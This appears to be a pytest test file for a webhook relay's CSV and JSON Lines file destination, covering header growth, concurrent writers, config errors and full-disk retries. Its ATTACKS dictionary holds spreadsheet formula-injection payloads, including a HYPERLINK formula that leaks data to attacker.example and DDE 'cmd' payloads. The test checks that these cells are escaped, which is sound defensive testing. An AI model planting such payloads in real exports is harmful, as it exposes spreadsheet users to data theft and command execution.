"""The `file` destination: CSV and JSON Lines, new columns, and writers in several processes."""

from __future__ import annotations

import csv
import json
import multiprocessing
import resource
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from hookrelay.config import load_config
from hookrelay.destinations import Context, Record
from hookrelay.destinations.file import File
from hookrelay.errors import ConfigError
from tests.conftest import RunningRelay, participation, write_config
from tests.processes import wait_until


def file_destination(tmp_path: Path, name: str) -> File:
    return File("archive", Context(tmp_path, 5.0), path=name)


def records(*rows: dict) -> list[Record]:
    return [Record(f"d{i}", f"e{i}", row) for i, row in enumerate(rows)]


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_csv_header_comes_from_the_first_record(tmp_path):
    dest = file_destination(tmp_path, "out/rows.csv")
    dest.send(records({"id": "1", "name": "Zo", "nested": {"a": [1, 2]}, "ok": True, "none": None}))
    assert read_csv(tmp_path / "out/rows.csv") == [
        {"id": "1", "name": "Zo", "nested": '{"a": [1, 2]}', "ok": "true", "none": ""}
    ]


def test_new_columns_extend_the_header_and_keep_rows_aligned(tmp_path):
    dest = file_destination(tmp_path, "rows.csv")
    dest.send(records({"id": "1", "b": "x"}))
    dest.send(records({"id": "2", "c": "y, with comma", "why": '=HYPERLINK("x")'}))
    assert read_csv(tmp_path / "rows.csv") == [
        {"id": "1", "b": "x", "c": "", "why": ""},
        {"id": "2", "b": "", "c": "y, with comma", "why": '\'=HYPERLINK("x")'},
    ]


ATTACKS = {
    "link": '=HYPERLINK("https://attacker.example/?leak="&A1, "Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
HARMLESS = {
    "negative": -5,
    "float": -1.5,
    "negative_text": "-5",
    "phone": "+32 470 12 34 56",
    "inside": "a=b+c",
    "flag": True,
    "nested": {"x": "=1+1"},
}


def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(tmp_path):
    file_destination(tmp_path, "rows.csv").send(records({**ATTACKS, **HARMLESS}))
    [row] = read_csv(tmp_path / "rows.csv")
    assert {k: row[k] for k in ATTACKS} == {k: "'" + v for k, v in ATTACKS.items()}
    assert {k: row[k] for k in HARMLESS} == {
        "negative": "-5",
        "float": "-1.5",
        "negative_text": "-5",
        "phone": "+32 470 12 34 56",
        "inside": "a=b+c",
        "flag": "true",
        "nested": '{"x": "=1+1"}',
    }


def test_escape_formulas_false_writes_cells_as_they_came(tmp_path):
    dest = File("archive", Context(tmp_path, 5.0), path="rows.csv", escape_formulas=False)
    dest.send(records(ATTACKS))
    assert read_csv(tmp_path / "rows.csv") == [ATTACKS]


def test_jsonl_is_written_as_the_record_is(tmp_path):
    file_destination(tmp_path, "rows.jsonl").send(records(ATTACKS))
    assert json.loads((tmp_path / "rows.jsonl").read_text(encoding="utf-8")) == ATTACKS


@pytest.mark.parametrize(
    ("path", "escaped"),
    [
        ("rows.csv", True),
        ("rows.csv, escape_formulas: true", True),
        ("rows.csv, escape_formulas: false", False),
    ],
)
def test_escape_formulas_is_on_unless_config_yaml_says_false(tmp_path, monkeypatch, path, escaped):
    monkeypatch.setenv("RELAY_TEST_STORAGE", "sqlite:///relay.db")
    config = load_config(write_config(tmp_path, FILE_CONFIG.format(path=path), {"row": ROW}))
    assert config.destinations["rows"].escape_formulas is escaped
    wrong = write_config(tmp_path, FILE_CONFIG.format(path="rows.csv, escape_formulas: no way"))
    with pytest.raises(ConfigError) as caught:
        load_config(wrong)
    assert str(caught.value) == (
        f"{wrong}:6: destinations.rows.escape_formulas: expected true or false, got 'no way'"
    )


def test_jsonl_appends_one_object_per_line(tmp_path):
    dest = file_destination(tmp_path, "rows.jsonl")
    dest.send(records({"id": "1", "name": "Zoë"}, {"id": "2"}))
    lines = (tmp_path / "rows.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line) for line in lines] == [{"id": "1", "name": "Zoë"}, {"id": "2"}]


def test_unknown_extension_is_a_config_error(tmp_path):
    with pytest.raises(ConfigError) as caught:
        file_destination(tmp_path, "rows.xlsx")
    assert caught.value.key == "path" and ".csv" in caught.value.message


def _write_many(directory: str, worker: int) -> None:
    dest = File("archive", Context(Path(directory), 5.0), path="rows.csv")
    for n in range(40):
        extra = {f"col{worker}": "x"} if n == 20 else {}  # new columns while others write
        dest.send(records({"worker": str(worker), "n": str(n), **extra}))


def test_concurrent_processes_never_interleave_or_lose_rows(tmp_path):
    context = multiprocessing.get_context("fork")
    processes = [context.Process(target=_write_many, args=(str(tmp_path), w)) for w in range(4)]
    for p in processes:
        p.start()
    for p in processes:
        p.join(30)
    rows = read_csv(tmp_path / "rows.csv")
    assert sorted((r["worker"], int(r["n"])) for r in rows) == sorted(
        (str(w), n) for w in range(4) for n in range(40)
    )
    assert all(None not in r for r in rows)  # no row longer than the header
    with open(tmp_path / "rows.csv", encoding="utf-8") as f:
        header = next(csv.reader(f))
    assert {"col0", "col1", "col2", "col3"} <= set(header)


FILE_CONFIG = """
storage: ${{RELAY_TEST_STORAGE}}
sources:
  qualifio: {{format: qualifio, auth: none}}
destinations:
  rows: {{type: file, path: {path}}}
routes:
  - {{from: qualifio, mapping: row, to: [rows]}}
delivery: {{backoff: {{initial: 50ms, max: 200ms}}, max_attempts: 50}}
"""
ROW = "fields: {id: id, firstname: variables.firstname, campaign: campaign.name}"


@pytest.mark.parametrize("name", ["rows.csv", "rows.jsonl"])
def test_a_record_that_cannot_be_written_is_dead_alone(tmp_path, start_relay, name):
    relay = start_relay(
        write_config(tmp_path, FILE_CONFIG.format(path=name), {"row": ROW}), worker=False
    )
    for n in range(61):
        body = participation(n)
        if n == 30:  # a lone surrogate: valid as a JSON escape, not as UTF-8
            body = body.replace("Zoë".encode(), b"Zo\\ud800")
        assert relay.post(body, secret=None).status_code == 202
    relay.relay.worker.start()
    assert sorted(relay.wait_settled(30)) == ["dead"] + ["delivered"] * 60
    [dead] = [d for d in relay.deliveries() if d["status"] == "dead"]
    assert "cannot be written as UTF-8" in dead["last_error"]
    text = (tmp_path / name).read_text(encoding="utf-8")
    ids = (
        [r["id"] for r in read_csv(tmp_path / name)]
        if name.endswith(".csv")
        else [json.loads(line)["id"] for line in text.splitlines()]
    )
    assert sorted(ids) == sorted(json.loads(participation(n))["id"] for n in range(61) if n != 30)


@pytest.fixture
def file_size_limit() -> Iterator[Callable[[int], None]]:
    """Set the most this process may write into any file, as a full disk would; restored."""
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    yield lambda size: resource.setrlimit(resource.RLIMIT_FSIZE, (size, hard))
    resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))


@pytest.fixture
def relay_on_postgresql(tmp_path, pg_storage) -> Iterator[RunningRelay]:
    """On PostgreSQL, whose files are the server's: only the destination writes files here."""
    relay = RunningRelay(
        write_config(tmp_path, FILE_CONFIG.format(path="rows.jsonl"), {"row": ROW})
    )
    yield relay
    relay.stop()


def test_a_write_cut_short_by_a_full_disk_leaves_no_partial_line(
    tmp_path, relay_on_postgresql, file_size_limit
):
    relay = relay_on_postgresql
    relay.post(participation(0), secret=None)
    assert relay.wait_settled() == ["delivered"]
    path = tmp_path / "rows.jsonl"
    file_size_limit(path.stat().st_size + 150)  # room for part of one more line, not all of it
    for n in range(1, 6):
        relay.post(participation(n), secret=None)
    wait_until(lambda: any(d["last_error"] for d in relay.deliveries()))
    assert "cannot write" in next(d["last_error"] for d in relay.deliveries() if d["last_error"])
    file_size_limit(resource.RLIM_INFINITY)  # space again: the retry writes the batch whole
    assert relay.wait_settled() == ["delivered"] * 6
    ids = [json.loads(line)["id"] for line in path.read_text(encoding="utf-8").splitlines()]
    assert sorted(ids) == sorted(json.loads(participation(n))["id"] for n in range(6))
